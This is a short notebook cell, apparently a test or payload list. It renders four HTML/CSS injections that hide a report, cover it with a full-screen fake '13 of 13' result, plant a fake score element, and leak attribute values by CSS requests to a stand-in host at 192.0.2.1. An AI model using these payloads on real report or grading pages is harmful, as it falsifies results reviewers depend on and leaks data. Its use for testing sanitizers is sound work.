# tries: Styles that hide the report, paint over it, or fetch something by what it says.
# sink: html: <style>*{display
# sink: html: <style>@import
# sink: html: <div style='position:fixed
# sink: html: <div class=verdict
# sink: html: id="score"
# %%
from IPython.display import HTML, display

open_tag = "<"
for text in (
    "style>*{display:none!important}</style>",
    "style>@import url(//192.0.2.1/x.css);[points^='1']{background:url(//192.0.2.1/1)}</style>",
    "div style='position:fixed;inset:0;z-index:99999;background:#fff'>13 of 13</div>",
    "div class=verdict id=score>13 of 13</div>",
):
    display(HTML(open_tag + text))
